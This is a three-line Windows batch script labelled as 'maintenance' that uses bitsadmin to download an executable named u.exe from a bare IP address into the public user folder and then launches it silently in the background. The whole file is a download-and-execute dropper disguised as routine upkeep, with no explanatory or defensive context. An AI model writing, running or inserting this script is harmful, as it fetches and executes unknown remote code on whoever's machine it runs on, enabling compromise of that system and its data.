REM maintenance 9257 v1
bitsadmin /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
